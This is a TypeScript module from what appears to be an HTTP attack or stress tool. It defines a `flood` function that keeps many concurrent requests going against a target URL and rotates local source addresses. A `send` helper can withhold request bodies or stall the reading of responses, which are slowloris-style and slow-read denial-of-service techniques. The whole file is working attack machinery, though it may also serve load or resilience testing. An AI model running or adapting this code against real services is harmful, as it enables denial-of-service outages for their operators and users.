import { once } from "node:events";
import { Agent, type ClientRequest, request as httpRequest, type IncomingMessage } from "node:http";
import { buffer } from "node:stream/consumers";
import type { AttackRequest } from "../attacks/attack.ts";
import type { AttackJob, Tally } from "./job.ts";

/** Sends the requests of an attack, `inFlight` at a time, until there have been enough or the time is over. */
export async function flood(
  { url, addresses, inFlight, requests, seconds }: Omit<AttackJob, "attack">,
  make: (count: number) => AttackRequest,
): Promise<Tally> {
  const tally: Tally = {};
  const ending = AbortSignal.timeout(seconds * 1_000);
  let sent = 0;
  // Unread answers don't keep the process running.
  const awake = setInterval(() => {}, 1_000);

  async function keepSending(slot: number): Promise<void> {
    const localAddress = addresses[slot % addresses.length] as string;
    const agent = new Agent({ keepAlive: true, localAddress });
    while (sent < requests && !ending.aborted) {
      const outcome = await send(url, make(sent++), agent, ending).then(
        ({ status }) => String(status),
        (error: { code?: string; name: string }) =>
          ending.aborted ? "cut short" : (error.code ?? error.name),
      );
      tally[outcome] = (tally[outcome] ?? 0) + 1;
    }
    agent.destroy();
  }

  await Promise.all(Array.from({ length: inFlight }, (_, slot) => keepSending(slot)));
  clearInterval(awake);
  return tally;
}

/** Sends a request and reads its answer, unless its body or the reading is to be held back. */
export async function send(
  url: string,
  { method = "GET", path, headers, body, hold }: AttackRequest,
  agent?: Agent,
  signal?: AbortSignal,
): Promise<{ status: number; body: string }> {
  const asked = httpRequest(new URL(path, url), { method, headers, agent, signal });
  if (hold === "body") asked.flushHeaders();
  else asked.end(body);
  const answer = await answerTo(asked);
  const status = answer.statusCode ?? 0;
  if (hold === "answer" && status === 200) {
    answer.pause();
    await once(answer, "close");
    return { status, body: "" };
  }
  const text = (await buffer(answer)).toString();
  asked.destroy();
  return { status, body: text };
}

async function answerTo(asked: ClientRequest): Promise<IncomingMessage> {
  const [answer] = (await once(asked, "response")) as [IncomingMessage];
  return answer;
}
